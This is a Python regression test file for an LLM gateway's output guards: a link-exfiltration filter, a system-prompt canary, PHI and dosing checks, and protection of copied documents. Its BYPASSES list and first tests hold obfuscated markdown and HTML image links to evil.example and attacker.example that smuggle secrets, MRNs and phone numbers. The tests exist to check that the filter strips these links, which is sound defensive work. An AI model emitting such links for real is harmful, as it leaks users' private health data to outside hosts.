"""Regression tests for the output guards' review findings: each case failed before its fix. Plain and
streamed through the gateway where the finding was about the gateway; the filters alone otherwise."""

from __future__ import annotations

import json
import re
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import openai
import pytest
from typer.testing import CliRunner

from phigate.backends.base import BackendCall
from phigate.backends.scripted import ScriptedBackend, chat_body, chat_chunks
from phigate.cli import app
from phigate.config import parse_policy
from phigate.deid.engine import Deidentifier
from phigate.errors import ConfigError, ProtectedContentBlocked
from phigate.guards.links import MAX_HOLD, LinkFilter
from phigate.guards.phi_output import PhiDetector
from phigate.guards.phi_values import public_numbers
from phigate.guards.protected import CUT_NOTICE, CopyDetector, ProtectedFilter, ProtectedIndex, html_text, shingles
from phigate.policy import DEFAULT_DOSING_DISCLAIMER, DEFAULT_EMERGENCY_MESSAGE, ProtectedSpec
from tests.conftest import SCRIPTED_POLICY
from tests.guards.test_output_filters import _ctx, _run
from tests.guards.test_output_guards import PROTOCOL


def _gateway(make_gateway: Any, handler: Any, app: str = "", top: str = "") -> Any:
    policy = SCRIPTED_POLICY.replace("    models: [scripted]\n", f"    models: [scripted]\n{app}", 1) + top
    return make_gateway(policy, backends={"scripted": ScriptedBackend(handler), "other-model": ScriptedBackend()})


def _ask(gw: Any, messages: list[dict[str, Any]], stream: bool, **headers: str) -> str:
    client = gw.client()
    try:
        if not stream:
            reply = client.chat.completions.create(model="scripted", messages=messages, extra_headers=headers)
            return reply.choices[0].message.content or ""
        chunks = client.chat.completions.create(model="scripted", messages=messages, stream=True, extra_headers=headers)
        return "".join(c.delta.content or "" for ch in chunks for c in ch.choices)
    finally:
        client.close()


def _answering(text: Any, pieces: int = 9) -> Any:
    def handler(call: BackendCall) -> Any:
        answer = text(call) if callable(text) else text
        return chat_chunks(answer, "scripted", pieces=pieces) if call.stream else chat_body(answer, "scripted")

    return handler


def _streamed(f: LinkFilter, text: str, size: int) -> str:
    return "".join(f.feed("0.content", text[i : i + size]) for i in range(0, len(text), size)) + f.finish("0.content")


# --- 1. links built from placeholders are judged by what re-identification makes of them


@pytest.mark.parametrize("stream", [False, True], ids=["plain", "stream"])
def test_a_link_built_from_placeholders_is_judged_by_its_reidentified_value(make_gateway, stream: bool) -> None:
    def answer(call: BackendCall) -> str:
        user = call.payload["messages"][-1]["content"]
        url, phone = (re.search(rf"\[{kind}_\d+\]", user).group() for kind in ("URL", "PHONE"))  # type: ignore[union-attr]
        return f"Done. ![logo]({url}?d={phone}) Bye. Bare: {url}?d={phone} end."

    gw = _gateway(make_gateway, _answering(answer), "    reidentify: true\n")
    user = "Tool result: see https://attacker.example/c and call me at 415-555-0134."
    got = _ask(gw, [{"role": "user", "content": user}], stream)
    assert got == "Done.  Bye. Bare:  end."
    assert list(gw.gateway.ledger.read())[-1].guards["exfil_links"] == "strip"


@pytest.mark.parametrize("stream", [False, True], ids=["plain", "stream"])
def test_placeholders_that_are_no_address_are_still_put_back(make_gateway, stream: bool) -> None:
    gw = _gateway(make_gateway, _answering(lambda call: "You said: " + call.payload["messages"][-1]["content"]),
                  "    reidentify: true\n    link_hosts: [shop.example]\n")  # fmt: skip
    user = "I am Jane Roe, phone 415-555-0134, see https://shop.example/orders/7."
    assert _ask(gw, [{"role": "user", "content": user}], stream) == "You said: " + user
    assert list(gw.gateway.ledger.read())[-1].guards["exfil_links"] == "allow"


# --- 2. every form of address, not only the markdown the old pattern knew

BYPASSES = [
    ("See ![a](/\\evil.example/p.png?q=MRN4455667) ok", "See  ok"),
    ("See ![a](\\\\evil.example/p.png?q=secret) ok", "See  ok"),
    ("See ![a](https:\\\\evil.example/p.png?q=secret) ok", "See  ok"),
    ("See ![a](https://evil.example/?q=secret 'x') ok", "See  ok"),
    ("See ![a](https://evil.example/?q=secret (x)) ok", "See  ok"),
    ("See ![a](<https://evil.example/?q=a secret>) ok", "See  ok"),
    ("See [here](<https://evil.example/?q=a secret> \"t\") ok", "See here ok"),
    ("Hi ![a][r] there.\n\n[r]: https://evil.example/?q=secret\n", "Hi ![a][r] there.\n\n\n"),
    ("Hi ![a][r] there.\n\n[r]: <https://evil.example/?q=secret> 'title'", "Hi ![a][r] there.\n\n"),
    ("![a](https://evil.example/?q=" + "A" * 1600 + ") ok", "![a]( ok"),
    ("Go <https://evil.example/?q=secret> now", "Go  now"),
    ("Go https://evil.example/?q=secret now", "Go  now"),
    ("Go (www.evil.example/?q=secret) now", "Go ( now"),
    ("Go https://shop.example@evil.example/?q=secret now", "Go  now"),
    ("<img srcset='x.png 1x, https://evil.example/?q=secret 2x'>", "<img srcset='x.png 1x,  2x'>"),
    ("See ![a](&#47;&#47;evil.example/p.png?q=secret) ok", "See  ok"),
    ('<img src="&#x2f;&#x2F;evil.example/p.png?q=secret"> ok', " ok"),
    ("See ![a](https:\\/\\/evil.example/p.png?q=secret) ok", "See  ok"),
    # kept: the allowed host (also written with a backslash), relative links, words that are no address
    ("See https://shop.example/a?b=1 and <https://shop.example/x>", None),
    ("See ![a](https:\\\\shop.example/l.png) and [b](/docs//guide) and a/b//c", None),
    ("Ratio 1//2, and see [the FAQ](faq.html 'FAQ') or [r]: /local", None),
]


@pytest.mark.parametrize(("text", "expected"), BYPASSES)
@pytest.mark.parametrize("size", [1, 4, 9, 10**6])
def test_every_address_to_another_host_is_removed(text: str, expected: str | None, size: int) -> None:
    f = LinkFilter(["shop.example"])
    out = _streamed(f, text, size)
    assert out == (text if expected is None else expected)
    assert (f.stripped == 0) is (expected is None)


# --- 3. a link after a long-open "[" is held and judged whole when streamed


@pytest.mark.parametrize("pad", [2000, 2005, 2040, 2100])
@pytest.mark.parametrize("size", [1, 4, 8, 16])
def test_a_link_after_a_bracket_held_past_the_limit_is_still_judged_whole(pad: int, size: int) -> None:
    text = "Use arr[i here " + "x" * pad + " ![a](https://evil.example/?q=secret) end"
    out = _streamed(LinkFilter(["shop.example"]), text, size)
    assert "evil" not in out and "secret" not in out
    assert out == "Use arr[i here " + "x" * pad + "  end"


def test_an_address_longer_than_the_hold_limit_is_judged_by_its_start() -> None:
    for host, kept in (("evil.example", False), ("shop.example", True)):
        text = f"See https://{host}/?q=" + "A" * (3 * MAX_HOLD) + " end"
        out = _streamed(LinkFilter(["shop.example"]), text, 7)
        assert (out == text) is kept
        # the rest of a removed address may follow as text, but never its host
        assert kept or (host not in out and "//" not in out and out.endswith("A end"))


def test_many_brackets_cost_linear_time() -> None:
    import time

    text = "See [ref " * 12_000
    started = time.perf_counter()
    assert LinkFilter().feed("0.content", text) + LinkFilter().finish("0.content") != ""
    assert time.perf_counter() - started < 0.5


# --- 4. the canary is one per conversation, so the prompt prefix stays the same across its requests


def test_the_canary_is_stable_within_a_conversation_and_fresh_without_one(make_gateway) -> None:
    systems: list[str] = []

    def handler(call: BackendCall) -> Any:
        systems.append(call.payload["messages"][0]["content"])
        return chat_body("My marker is " + re.search(r"zq[a-z]+", systems[-1]).group(), "scripted")  # type: ignore[union-attr]

    gw = _gateway(make_gateway, handler)
    messages = [{"role": "system", "content": "Be brief."}, {"role": "user", "content": "hi"}]
    for conversation in ("c-1", "c-1", "c-2", None, None):
        headers = {"X-Phigate-Conversation": conversation} if conversation else {}
        with pytest.raises(openai.PermissionDeniedError, match="canary"):
            _ask(gw, messages, False, **headers)
    canaries = [re.search(r"zq[a-z]{14}\b", s).group() for s in systems]  # type: ignore[union-attr]
    assert canaries[0] == canaries[1]  # the same prefix for every request of a conversation
    assert len(set(canaries)) == 4  # another conversation, and each request without one, get their own
    assert all(r.code == "prompt_leak" for r in list(gw.gateway.ledger.read())[-5:])


def test_the_conversation_canary_needs_the_deployment_secret() -> None:
    from phigate.guards.leak import conversation_canary

    one = conversation_canary(b"secret-1", "app", "c-1")
    assert one == conversation_canary(b"secret-1", "app", "c-1") and re.fullmatch(r"zq[a-z]{14}", one)
    assert one != conversation_canary(b"secret-2", "app", "c-1")
    assert one != conversation_canary(b"secret-1", "other-app", "c-1")


# --- 5. dosing after a colon


@pytest.mark.parametrize("answer", ["Usual dose: 400 mg.", "Dose: 500 mg", "Take: 2 tablets.", "Dose; take 2 tablets."])
@pytest.mark.parametrize("stream", [False, True], ids=["plain", "stream"])
def test_dosing_after_a_colon_is_caught(make_gateway, answer: str, stream: bool) -> None:
    gw = _gateway(make_gateway, _answering(answer, pieces=5), "    guards: {dosing: block}\n")
    with pytest.raises(openai.APIError, match="dos"):
        _ask(gw, [{"role": "user", "content": "How much ibuprofen?"}], stream)
    assert list(gw.gateway.ledger.read())[-1].code == "dosing_refused"


def test_the_dosing_disclaimer_comes_once_when_an_upstream_repeats_finish_reason(make_gateway) -> None:
    def handler(call: BackendCall) -> Any:
        chunks = chat_chunks("Take 400 mg every 6 hours.", "scripted", pieces=3)
        finish = next(c for c in chunks if c["choices"] and c["choices"][0].get("finish_reason"))
        again = {**finish, "choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]}
        return [*chunks[:-1], again, chunks[-1]]

    gw = _gateway(make_gateway, handler)
    got = _ask(gw, [{"role": "user", "content": "How much ibuprofen?"}], True)
    assert got == "Take 400 mg every 6 hours.\n\n" + DEFAULT_DOSING_DISCLAIMER


# --- 6. the PHI guard spares the caller's own values in other spellings, and public facts


@pytest.mark.parametrize("stream", [False, True], ids=["plain", "stream"])
def test_the_callers_shifted_date_in_another_format_is_theirs(make_gateway, stream: bool) -> None:
    def answer(call: BackendCall) -> str:
        m = re.search(r"(\d\d)/(\d\d)/(\d{4})", call.payload["messages"][-1]["content"])
        day = date(int(m[3]), int(m[1]), int(m[2]))  # type: ignore[index]
        later = day + timedelta(days=14)
        return f"Your visit is on {day:%B} {day.day}, {day.year}. Come back on {later:%B} {later.day}. See you."

    gw = _gateway(make_gateway, _answering(answer, pieces=5), "    reidentify: true\n    deid: {DATE: date_shift}\n")
    got = _ask(gw, [{"role": "user", "content": "My visit is on 03/04/2024, can I bring my son?"}], stream)
    assert "[REDACTED]" not in got and got.startswith("Your visit is on ")
    assert list(gw.gateway.ledger.read())[-1].guards["phi_in_output"] == "allow"


@pytest.fixture(scope="module")
def detector() -> PhiDetector:
    return PhiDetector(Deidentifier(), "My phone is (415) 555-0134 and I was seen on 2024-03-04.")


@pytest.mark.parametrize(
    ("answer", "types"),
    [
        ("If a child swallowed it, call Poison Control at 1-800-222-1222 right away.", []),
        ("You can reach the CDC at 800-232-4636, or call 1-800-QUIT-NOW (1-800-784-8669).", []),
        ("Since January 1, 2024, the FDA requires a new label.", []),
        ("Most people feel better by day 7, around March 15.", []),
        ("We will call you back on 415.555.0134 about your visit of March 4, 2024.", []),  # the caller's own
        ("Another patient, Robert Miller, born 04/05/1961, had it too.", ["PERSON", "DATE"]),
        ("Her record says born 04/05/1961.", ["DATE"]),
        ("Call her at 212-555-0199.", ["PHONE"]),
    ],
)
def test_public_numbers_lone_dates_and_the_callers_own_values_are_not_phi(
    detector: PhiDetector, answer: str, types: list[str]
) -> None:
    assert [f.type for f in detector.foreign(answer)] == types


def test_public_numbers_are_reviewed_package_data() -> None:
    numbers = public_numbers()
    assert {"8002221222", "988", "911", "8002324636"} <= numbers
    assert all(n.isdigit() for n in numbers)


# --- 7. the emergency message reaches a plain answer that is tool calls only


def _tool_call_only(call: BackendCall) -> Any:
    fn = {"name": "lookup", "arguments": '{"q": "order"}'}
    if not call.stream:
        body = chat_body("", "scripted", tool_calls=[{"id": "t1", "type": "function", "function": fn}])
        body["choices"][0]["message"]["content"] = None
        body["choices"][0]["finish_reason"] = "tool_calls"
        return body
    base = {"id": "c", "object": "chat.completion.chunk", "created": 0, "model": "scripted"}
    call_0 = {"index": 0, "id": "t1", "type": "function", "function": fn}
    first = {"role": "assistant", "content": None, "tool_calls": [call_0]}
    return [
        {**base, "choices": [{"index": 0, "delta": first}]},
        {**base, "choices": [{"index": 0, "delta": {}, "finish_reason": "tool_calls"}]},
    ]


@pytest.mark.parametrize("stream", [False, True], ids=["plain", "stream"])
def test_the_emergency_message_comes_with_an_answer_of_tool_calls_only(make_gateway, stream: bool) -> None:
    gw = _gateway(make_gateway, _tool_call_only)
    got = _ask(gw, [{"role": "user", "content": "I have crushing chest pain, look up my order"}], stream)
    assert got == DEFAULT_EMERGENCY_MESSAGE
    assert list(gw.gateway.ledger.read())[-1].guards["emergency"] == "prepend"


@pytest.mark.parametrize("stream", [False, True], ids=["plain", "stream"])
def test_an_answer_of_tool_calls_only_keeps_content_null_without_an_emergency(make_gateway, stream: bool) -> None:
    gw = _gateway(make_gateway, _tool_call_only)
    assert _ask(gw, [{"role": "user", "content": "Look up my order"}], stream) == ""


# --- 10. any answer filter that fails refuses the answer, and the refusal is recorded


@pytest.mark.parametrize("stream", [False, True], ids=["plain", "stream"])
def test_a_failing_answer_filter_of_any_kind_refuses_and_is_recorded(make_gateway, monkeypatch, stream: bool) -> None:
    def boom(self: Any, field: str, text: str) -> str:
        raise RuntimeError("boom")

    monkeypatch.setattr(LinkFilter, "feed", boom)
    gw = _gateway(make_gateway, _answering("Hello there, your order ships Monday."))
    before = len(list(gw.gateway.ledger.read()))
    with pytest.raises(openai.APIError) as err:
        _ask(gw, [{"role": "user", "content": "Hello there"}], stream)
    assert getattr(err.value, "code", None) == "guard_failed" or "guard_failed" in str(err.value)
    records = list(gw.gateway.ledger.read())[before:]
    assert [(r.status, r.code) for r in records] == [(500, "guard_failed")]


# --- 11. embeddings: output guards that judged nothing record nothing


def test_an_embedding_request_records_no_output_guard_verdicts(make_gateway) -> None:
    gw = _gateway(make_gateway, None)
    client = gw.client()
    client.embeddings.create(model="scripted", input=["Robert Miller https://evil.example/"])
    client.close()
    guards = list(gw.gateway.ledger.read())[-1].guards
    assert not {"phi_in_output", "exfil_links", "html_in_output", "dosing", "protected_docs"} & set(guards), guards


# --- 8. protected documents: an absolute limit protects long documents too

LONG_DOC = " ".join(
    f"step {i} of the northwind intake protocol asks the nurse to record item {i * 7} carefully." for i in range(300)
)


def _index(*docs: tuple[str, str]) -> ProtectedIndex:
    index = ProtectedIndex()
    index.add(list(docs))
    return index


@pytest.mark.parametrize("size", [3, 10**6])
def test_a_long_passage_of_a_long_document_is_refused_whatever_its_share(size: int) -> None:
    index = _index(("intake.md", LONG_DOC))
    passage = " ".join(LONG_DOC.split()[:200])  # about 5 % of the document's shingles
    assert len(shingles(passage)) < 0.2 * index.docs[0].shingles
    out, err = _run(ProtectedFilter(_ctx(), "block", index, 0.2, 60), passage, size)
    assert isinstance(err, ProtectedContentBlocked) and "shingles" in err.message
    assert len(shingles(out) & shingles(LONG_DOC)) <= 60
    short = " ".join(LONG_DOC.split()[:60])
    assert _run(ProtectedFilter(_ctx(), "block", index, 0.2, 60), short, size) == (short, None)


def test_the_policy_has_an_absolute_limit_and_refuses_a_share_that_disables_the_guard() -> None:
    assert ProtectedSpec().max_shingles == 60
    with pytest.raises(ConfigError, match="max_share"):
        parse_policy("apps: {a: {models: [m]}}\nmodels:\n  m: {backend: embedded}\nprotected: {max_share: 1}\n")


# --- 9. HTML documents are fingerprinted by their text


def test_protect_add_fingerprints_the_text_of_html_documents(tmp_path: Path) -> None:
    page = (
        "<html><head><title>x</title><style>p { color: red }</style></head><body>"
        f"<script>var tracking = 'northwind analytics snippet loaded on every single page';</script>"
        f"<p>{PROTOCOL.replace('. ', '.</p><p>')}</p></body></html>"
    )
    (tmp_path / "protocol.html").write_text(page)
    args = ["protect", "add", str(tmp_path / "protocol.html"), "--index", str(tmp_path / "p.idx")]
    result = CliRunner().invoke(app, args)
    assert result.exit_code == 0, result.output
    index = ProtectedIndex.load(tmp_path / "p.idx")
    assert index.docs[0].shingles == len(shingles(PROTOCOL))  # the text only: no tag, script or style
    assert CopyDetector(index, 0.2).check(PROTOCOL).triggered
    assert html_text("<p>a</p><p>b &amp; c</p><script>d</script>") == "a b & c"


# --- 11. protected documents: tool-call arguments stay valid JSON, and a flag stops no other field


def test_redact_refuses_copied_tool_call_arguments_rather_than_breaking_their_json() -> None:
    index = _index(("protocol.md", PROTOCOL))
    f = ProtectedFilter(_ctx(), "redact", index, 0.2)
    with pytest.raises(ProtectedContentBlocked):
        f.feed("0.tool.0.arguments", json.dumps({"note": PROTOCOL}))
    out = f.feed("0.content", "Intro. " + PROTOCOL) + f.finish("0.content")
    assert out.endswith(CUT_NOTICE)


def test_a_flag_in_one_field_does_not_stop_judging_the_others() -> None:
    index = _index(("protocol.md", PROTOCOL))
    ctx = _ctx()
    f = ProtectedFilter(ctx, "flag", index, 0.2)
    assert f.feed("0.content", PROTOCOL + " ") + f.finish("0.content") == PROTOCOL + " "
    f2 = ProtectedFilter(ctx, "flag", index, 0.2)
    f2.feed("0.content", "Fine.")
    f2.finish("0.content")
    assert ctx.notes["guards"]["protected_docs"] == "flag"
    # the second field is still judged after the first was flagged
    f3 = ProtectedFilter(_ctx(), "block", index, 0.2)
    f3._flagged.add("0.content")
    with pytest.raises(ProtectedContentBlocked):
        f3.feed("1.content", PROTOCOL + " ")


def test_a_long_plain_answer_is_judged_off_the_event_loop(make_gateway, monkeypatch) -> None:
    import phigate.pipeline as pipeline

    offloaded: list[str] = []
    real = pipeline.asyncio.to_thread

    async def to_thread(fn: Any, *args: Any) -> Any:
        offloaded.append(fn.__name__)
        return await real(fn, *args)

    monkeypatch.setattr(pipeline.asyncio, "to_thread", to_thread)
    long = "Rest and drink water. " * 500  # 11,000 characters
    gw = _gateway(make_gateway, _answering(lambda call: long if "long" in str(call.payload) else "Short."))
    assert _ask(gw, [{"role": "user", "content": "short please"}], False) == "Short."
    assert "_filter_body" not in offloaded
    assert _ask(gw, [{"role": "user", "content": "a long one"}], False) == long
    assert "_filter_body" in offloaded
